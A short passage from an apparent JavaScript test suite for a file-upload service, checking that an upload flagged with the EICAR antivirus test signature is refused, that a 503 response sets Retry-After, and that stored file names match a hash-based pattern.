    if (what === 'infected') t.match(events, [{ type: 'upload_refused', details: { code, reason: 'Eicar-Test-Signature' } }])
    if (status === 503) t.equal(answer.headers['retry-after'], '30')
  }
  t.match(seen, [new RegExp(`^[0-9a-f]{32}\\.pdf ${part.content.length} ${part.content.length}$`)])
})
